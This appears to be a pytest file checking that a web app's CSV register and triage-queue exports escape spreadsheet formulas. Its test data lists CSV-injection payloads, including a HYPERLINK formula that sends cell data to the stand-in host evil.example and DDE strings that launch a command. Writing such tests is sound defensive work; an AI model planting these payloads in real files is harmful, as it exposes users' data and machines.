"""CSV downloads open in a spreadsheet as text: no cell written by a person runs as a formula."""

import csv
import io
from decimal import Decimal

import pytest

from app.accounts.models import Role
from app.csv_download import csv_text
from app.examples import load_example
from app.proposals import services as proposals
from app.triage import services as triage
from app.triage.services import DecisionInput

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_is_written_as_text(text):
    rows = list(csv.reader(io.StringIO(csv_text(["cell"], [[text]]))))
    assert rows[1][0] == "'" + text


@pytest.mark.parametrize("number", [-12, -0.5, Decimal("-1250.75"), "-3.5", "-1e-27", 0, 42])
def test_numbers_negative_ones_included_stay_numbers(number):
    rows = list(csv.reader(io.StringIO(csv_text(["n"], [[number]]))))
    assert rows[1][0] == str(number)


def test_ordinary_text_and_empty_cells_are_unchanged():
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b", "c"], [["Kirkfield Trust", None, ""]]))))
    assert rows[1] == ["Kirkfield Trust", "", ""]


@pytest.fixture
def hostile_decided(db, make_user, make_organisation, make_public_body):
    """A decided submission whose title, organisation and reasons each start a formula."""
    body = make_public_body("Anytown Borough Council")
    commissioner = make_user(Role.COMMISSIONER, public_body=body)
    proposer = make_user(Role.CSO, organisation=make_organisation(FORMULAS[1]))
    document = load_example("propose-parish-green-spaces")
    document["title"] = FORMULAS[0]
    proposal = proposals.new_proposal(proposer.organisation, body, document, proposer)
    db.session.flush()
    proposals.submit(proposal, proposer, None, None)
    triage.take(proposal, "start_review", commissioner, "", None, "")
    decision = DecisionInput("accepted", FORMULAS[3], "A contract follows.")
    triage.decide(proposal, commissioner, decision, None, "")
    return commissioner, proposal


def test_register_csv_neutralises_every_formula(client, hostile_decided):
    rows = list(
        csv.DictReader(io.StringIO(client.get("/register/register.csv").get_data(as_text=True)))
    )
    assert rows[0]["title"] == "'" + FORMULAS[0]
    assert rows[0]["organisation"] == "'" + FORMULAS[1]
    assert rows[0]["reasons"] == "'" + FORMULAS[3]
    assert rows[0]["decision"] == "accepted"


def test_queue_csv_neutralises_every_formula(client, sign_in, hostile_decided):
    commissioner, _ = hostile_decided
    sign_in(commissioner)
    text = client.get("/triage/export.csv?status=accepted").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
